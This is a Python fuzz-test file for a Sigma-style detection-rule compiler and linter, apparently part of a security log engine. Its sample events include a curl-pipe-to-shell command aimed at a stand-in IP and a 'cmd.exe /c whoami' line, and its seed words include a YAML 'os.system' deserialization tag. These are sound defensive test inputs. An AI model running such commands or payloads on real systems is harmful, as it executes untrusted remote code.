"""Rule files: rules, correlations, filters and collections, read, compiled, linted and run, or refused with a place."""

from __future__ import annotations

from dataclasses import replace
from datetime import date
from typing import Any

import numpy as np
import pyarrow as pa

from fuzz.reading import memory_folder
from fuzz.targets import Target, expect
from lichen.core.batch import Batch, LogSource, Shape, Stream
from lichen.core.ocsf import view_of
from lichen.detect.rules.algebra import predicates_of
from lichen.detect.rules.in_words import words_of
from lichen.detect.rules.lint import lint_rules, list_rules
from lichen.detect.rules.ruleset import RuleSet
from lichen.detect.rules.sigma_compile import compile_file
from lichen.detect.rules.sigma_match import Matcher

FILE = memory_folder() / "rule.yml"
TODAY = date(2026, 11, 24)
SOURCE = LogSource("linux", "process_creation", "auditd")
COMMANDS = ("curl -s http://198.51.100.7/x | sh", "C:\\Windows\\System32\\cmd.exe /c whoami", "", "é𝄞\u212a", "10")


def read(data: bytes) -> None:
    """The file as `lichen rule lint` and a scan read it."""
    FILE.write_bytes(data)
    compiled = list(compile_file(FILE))
    rules = RuleSet.of(compiled, TODAY)
    for each in rules.refused:
        expect(bool(each.place and each.fault and each.remedy), f"refused without place or remedy: {each}")
    expect(len(list_rules(rules)) <= len(compiled), "more rules than documents")
    expect(len(rules.digest) == 16, "no digest")
    for rule in rules.rules:
        expect(all(words_of(each) for each in predicates_of(rule.condition)), "a condition without words")
    for finding in lint_rules([FILE]):
        expect(bool(finding.place and finding.fault), f"a finding without place: {finding}")
    anywhere = [replace(rule, source=LogSource()) for rule in rules.with_lists(()).rules]
    fired = Matcher(anywhere).match(BATCH)
    expect(all(0 <= row < len(BATCH) for rows in fired.rows.values() for row in rows), "a hit on no event")


def _batch() -> Batch:
    """Some events with the fields that the seeds name."""
    columns: dict[str, Any] = {
        "CommandLine": pa.array(COMMANDS, pa.large_string()),
        "Image": pa.array(["/usr/bin/curl", "C:\\a\\cmd.exe", None, "", "x"], pa.large_string()),
        "User": pa.array(["root", "SYSTEM", None, "é", "0"], pa.large_string()),
        "DestinationIp": pa.array(["10.0.0.1", "::1", "fe80::1%eth0", None, "x"], pa.large_string()),
        "count": pa.array(["1", "1.5", "1e9", None, "-0"], pa.large_string()),
        "time": pa.array(["2026-11-24T10:00:00Z", "1763980000", "x", None, ""], pa.large_string()),
    }
    rows = len(COMMANDS)
    view = view_of({"class_uid": pa.array([0] * rows, pa.int32())}, rows)
    text = pa.array(COMMANDS, pa.large_string())
    shape = Shape(SOURCE, pa.RecordBatch.from_pydict(columns))
    return Batch(Stream("0" * 32, "input", "test"), "other", text, np.arange(rows) * 100, view, (shape,))


BATCH = _batch()
WORDS = (
    "title: ", "id: ", "logsource:\n", "detection:\n", "condition: ", "selection", "all of ", "1 of ", "them", " and ",
    " or ", " not ", "|contains", "|startswith", "|endswith", "|all", "|re", "|re|i", "|cidr", "|base64", "|wide",
    "|base64offset", "|windash", "|utf16", "|exists", "|expand", "|fieldref", "|gt", "|lte", "|neq", "|cased", "|week",
    "|year", "correlation:\n", "type: event_count", "type: temporal_ordered", "type: value_percentile", "group-by:",
    "timespan: 5m", "aliases:", "filter:\n", "action: global", "action: repeat", "action: reset", "---\n", "&a ", "*a",
    "<<: ", "!!binary ", "!!python/object:os.system", "? ", "'*'", "%x%", "null", "CommandLine", "level: high",
    "tags:\n", "attack.t1059", "stage: shadow", "expires: 2027-01-01", "timeframe: 1s", "fields:", "near", "| count()",
)  # fmt: skip
TARGET = Target("rule_files", read, 8192, WORDS)
